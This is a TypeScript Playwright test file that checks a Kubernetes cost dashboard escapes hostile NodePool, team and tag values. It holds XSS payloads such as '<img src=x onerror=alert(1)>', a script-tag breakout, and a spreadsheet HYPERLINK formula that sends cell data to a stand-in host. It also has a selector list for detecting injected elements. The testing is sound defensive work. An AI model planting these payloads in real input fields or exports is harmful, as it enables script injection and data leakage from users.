import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { screenshot, serveDashboard, type ServedDashboard } from '../browser/harness.js';
import { HOSTILE_TAG_VALUES, hostileNodePool, hostileTeams, seedHostileDb, type HostileDb } from './fixtures/hostile-db.js';

/*
 * Hostile names, label and tag values render as text. The dashboard is served over a database seeded from the
 * `hostile` sandbox scenario (a NodePool named general"><img src=x onerror=alert(6)>, so its NodeClaims too; team
 * and label values like <img src=x onerror=alert(1)> and "><script>…) plus bill lines tagged with markup, and every
 * page is opened in headless Chromium with the Content-Security-Policy bypassed, so the page's own escaping is what
 * is tested (the CSP would otherwise block an injected handler and hide the bug). Each page must show a hostile
 * string, exactly as written (a test over a page that never renders one could not fail), with no dialog opened
 * and no element or handler injected.
 */
let h: HostileDb;
let served: ServedDashboard;
let context: BrowserContext;
let baseUrl: string;
let range: string;
let page: Page | undefined;

beforeAll(async () => {
  h = await seedHostileDb(3);
  range = `from=${new Date(h.startMs).toISOString().slice(0, 10)}&to=${new Date(h.endMs).toISOString().slice(0, 10)}`;
  served = await serveDashboard(h.db, h.endMs);
  baseUrl = served.baseUrl;
  // One context for the file's pages (the chunks fetched and compiled once, not once per page), with the
  // Content-Security-Policy bypassed; each visit is a page of its own with its own dialog listener.
  context = await served.browser.newContext({ bypassCSP: true, viewport: { width: 1280, height: 900 } });
}, 300_000); // about 5 s idle; minutes on a loaded machine
afterAll(async () => {
  await served?.close();
  h?.close();
});

/** Elements and attributes only an injection would bring: the app itself renders none of them. */
const INJECTED = 'img[src="x"], iframe, svg[onload], details[ontoggle], script:not([src]), [onerror], [onload], [ontoggle], [onclick]';

/**
 * For each of `values`, how many visible text nodes of the page's content, outside form controls, hold it as
 * written: a NodePool or team picker lists every value on every page, so finding a value there would prove nothing
 * of what the page itself shows. Runs in the page (serialized by Playwright, so self-contained).
 */
function countShown(values: readonly string[]): number[] {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const texts: string[] = [];
  for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
    const parent = node.parentElement;
    if (parent === null || parent.closest('select, option, input, textarea') !== null || !parent.checkVisibility()) continue;
    texts.push(node.textContent ?? '');
  }
  return values.map((v) => texts.filter((t) => t.includes(v)).length);
}

/**
 * Opens `path`, waits for its reads (and for each of `shows` to appear in the page's content, as written, when
 * given), and reports what happened: `shown` is how many content text nodes hold each of `shows`.
 */
async function visit(
  path: string,
  shows: readonly string[] = [],
): Promise<{ page: Page; dialogs: string[]; injected: number; shown: number[] }> {
  // One page for the file's visits, each a navigation of it (a new page costs Chromium a renderer process or two and
  // the chunks compiled again: about 1.5–3 CPU s); each visit listens for its own dialogs.
  page ??= await context.newPage();
  page.removeAllListeners('dialog');
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  await page.goto(`${baseUrl}${path}`);
  await page.waitForLoadState('networkidle'); // the page's lazy chunk and its API reads are in
  // Until each of `shows` is in the content (no throw on a timeout: the test's assertion on `shown` names what never came).
  const deadline = Date.now() + 20_000;
  while (shows.length > 0 && (await page.evaluate(countShown, shows)).includes(0) && Date.now() < deadline) await page.waitForTimeout(100);
  if (shows.length === 0) await page.waitForTimeout(500); // charts and tables render from what arrived
  const injected = await page.locator(INJECTED).count();
  const shown = await page.evaluate(countShown, shows);
  return { page, dialogs, injected, shown };
}

describe('the dashboard over hostile label and tag values', () => {
  it.each([
    ['/', 'the Overview legend'],
    ['/nodepools', "the NodePool's card"],
    ['/consolidation', 'the disruptions of that NodePool'],
    ['/nodes', 'its nodes and NodeClaims'],
  ])('%s: shows the hostile NodePool name literally (%s); no dialog, nothing injected', async (path, _where) => {
    const pool = hostileNodePool();
    const { page, dialogs, injected, shown } = await visit(`${path}?${range}`, [pool]);
    expect(dialogs).toEqual([]);
    expect(injected).toBe(0);
    expect(shown[0], `${pool} shown in the page's content`).toBeGreaterThan(0);
    const name = path === '/' ? 'overview' : path.slice(1);
    await screenshot(page, `hostile-${name}`);
  });

  it('/teams: no dialog, nothing injected, the team values shown literally', async () => {
    // The teams with pods in the first two days (the batch team's jobs start on day three).
    const present = hostileTeams().filter((t) => !t.startsWith('@'));
    const { page, dialogs, injected, shown } = await visit(`/teams?${range}`, present);
    expect(dialogs).toEqual([]);
    expect(injected).toBe(0);
    expect(present.filter((_t, i) => shown[i] === 0)).toEqual([]); // in the chart and table, not only the team picker
    expect(present).toEqual(
      expect.arrayContaining([
        '<img src=x onerror=alert(1)>',
        '"><script>alert(document.domain)</script>',
        '=HYPERLINK("https://example.invalid/?q="&A1,"open")',
      ]),
    );
    await screenshot(page, 'hostile-teams');
  });

  it('/teams with a hostile team chosen in the URL filter: no dialog, nothing injected', async () => {
    const { dialogs, injected } = await visit(`/teams?${range}&team=${encodeURIComponent('<img src=x onerror=alert(1)>')}`);
    expect(dialogs).toEqual([]);
    expect(injected).toBe(0);
  });

  it('/bill on the day of the hostile tag values: no dialog, nothing injected, the values shown literally', async () => {
    const day = new Date(h.startMs).toISOString().slice(0, 10);
    const { dialogs, injected, shown } = await visit(`/bill?day=${day}`, HOSTILE_TAG_VALUES);
    expect(dialogs).toEqual([]);
    expect(injected).toBe(0);
    expect(HOSTILE_TAG_VALUES.filter((_v, i) => shown[i] === 0)).toEqual([]);
  });
});
